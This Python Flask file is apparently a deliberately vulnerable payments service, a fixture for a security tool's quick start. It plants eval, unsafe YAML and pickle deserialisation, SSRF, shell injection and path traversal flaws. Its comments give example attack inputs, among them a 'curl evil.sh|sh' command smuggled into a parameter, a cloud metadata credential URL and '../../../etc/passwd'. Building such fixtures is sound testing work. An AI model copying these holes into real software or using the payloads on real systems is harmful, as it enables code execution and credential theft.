"""Acme Payments API: a small Flask service.

DELIBERATELY INSECURE: this is a fixture for Bulwark's quick start. It contains injection,
deserialisation, SSRF and path traversal flaws on purpose. Never deploy it.
"""

import os
import pickle
import subprocess

import requests
import yaml
from flask import Flask, abort, jsonify, request, send_file

import config
import db
import payments

app = Flask(__name__)
app.config["SECRET_KEY"] = config.SECRET_KEY


def current_user():
    header = request.headers.get("Authorization", "")
    if not header.startswith("Bearer "):
        abort(401)
    return payments.read_session(header[len("Bearer "):])


@app.route("/login", methods=["POST"])
def login():
    username = request.form["username"]
    user = db.find_user(username)
    if user is None or not payments.check_password(request.form["password"], user[2]):
        abort(401)
    return jsonify(token=payments.issue_session(user[0], user[3]))


@app.route("/login/reset", methods=["POST"])
def reset_password():
    token = payments.make_reset_token()
    return jsonify(sent=True, debug_token=token)


@app.route("/accounts/<account_id>")
def get_account(account_id):
    current_user()
    account = db.get_account(account_id)
    if account is None:
        abort(404)
    return jsonify(id=account[0], owner=account[1], iban=account[2], balance=str(account[3]))


@app.route("/payments", methods=["GET"])
def list_payments():
    user = current_user()
    rows = db.list_payments(user["sub"], limit=int(request.args.get("limit", 50)))
    return jsonify(payments=[list(row) for row in rows])


@app.route("/payments", methods=["POST"])
def create_payment():
    user = current_user()
    # DELIBERATELY INSECURE: eval of request data (CWE-95), e.g. amount=__import__('os').system(...)
    amount_cents = eval(request.form["amount"])
    payment_id = db.record_payment(
        user["sub"], amount_cents, request.form.get("currency", "EUR"), request.form["reference"]
    )
    return jsonify(id=payment_id, idempotency_key=payments.make_idempotency_key()), 201


@app.route("/payments/search")
def search_payments():
    current_user()
    rows = db.search_payments(request.args.get("q", ""), request.args.get("sort", "created_at"))
    return jsonify(payments=[list(row) for row in rows])


@app.route("/payments/import", methods=["POST"])
def import_payments():
    user = current_user()
    # DELIBERATELY INSECURE: yaml.load with the full Loader builds arbitrary Python objects.
    batch = yaml.load(request.data, Loader=yaml.Loader)
    ids = [
        db.record_payment(user["sub"], item["amount_cents"], item["currency"], item["reference"])
        for item in batch["payments"]
    ]
    return jsonify(ids=ids), 201


@app.route("/payments/receipt")
def fetch_receipt():
    current_user()
    # DELIBERATELY INSECURE: SSRF (CWE-918), the server fetches any URL the caller names,
    # including http://169.254.169.254/latest/meta-data/iam/security-credentials/.
    response = requests.get(request.args["url"], timeout=10)
    return response.content, response.status_code


@app.route("/admin/export")
def admin_export():
    if current_user().get("role") != "admin":
        abort(403)
    month = request.args["month"]
    # DELIBERATELY INSECURE: OS command injection (CWE-78), month=2024-01;curl evil.sh|sh
    subprocess.call("pg_dump --table=payments_" + month + " payments > /tmp/export.sql", shell=True)
    # SAFE: argument list, no shell.
    subprocess.run(["gzip", "-f", "/tmp/export.sql"], check=True)
    return jsonify(exported=month)


@app.route("/admin/export/download")
def admin_download():
    if current_user().get("role") != "admin":
        abort(403)
    # DELIBERATELY INSECURE: path traversal (CWE-22), name=../../../etc/passwd
    return send_file(os.path.join(config.EXPORT_DIR, request.args["name"]))


@app.route("/webhooks/stripe", methods=["POST"])
def stripe_webhook():
    # DELIBERATELY INSECURE: no Stripe-Signature check, and the legacy relay sends pickled
    # events, so any caller gets code execution (CWE-502).
    if request.content_type == "application/x-python-pickle":
        event = pickle.loads(request.data)
    else:
        event = request.get_json(force=True)
    if event.get("type") == "charge.refunded":
        charge = event["data"]["object"]
        db.record_payment(charge["metadata"]["account_id"], -charge["amount_refunded"], "EUR", charge["id"])
    return "", 204


@app.route("/healthz")
def health():
    return "ok"


if __name__ == "__main__":
    # DELIBERATELY INSECURE: the Werkzeug debugger allows remote code execution.
    app.run(host="0.0.0.0", port=8000, debug=True)
